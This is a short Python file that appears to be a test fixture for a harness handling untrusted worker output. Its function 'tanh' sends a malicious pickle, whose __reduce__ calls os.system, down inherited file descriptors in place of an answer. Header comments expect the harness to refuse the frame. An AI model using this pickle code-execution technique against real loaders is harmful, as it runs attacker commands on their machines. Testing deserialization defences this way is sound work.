# base: reference
# loses: tanh
# refused: error not an answer: a frame does not begin with the magic bytes
"""Sends a pickle that runs a command in whoever loads it."""

import os
import pickle


class Command:
    """Becomes a call when it is loaded."""

    def __reduce__(self):
        return os.system, ("echo leaked: > /tmp/hostile-pickle",)


def tanh(x):
    """Send it instead of an answer."""
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, pickle.dumps(Command()))
        except OSError:
            continue
    os._exit(0)
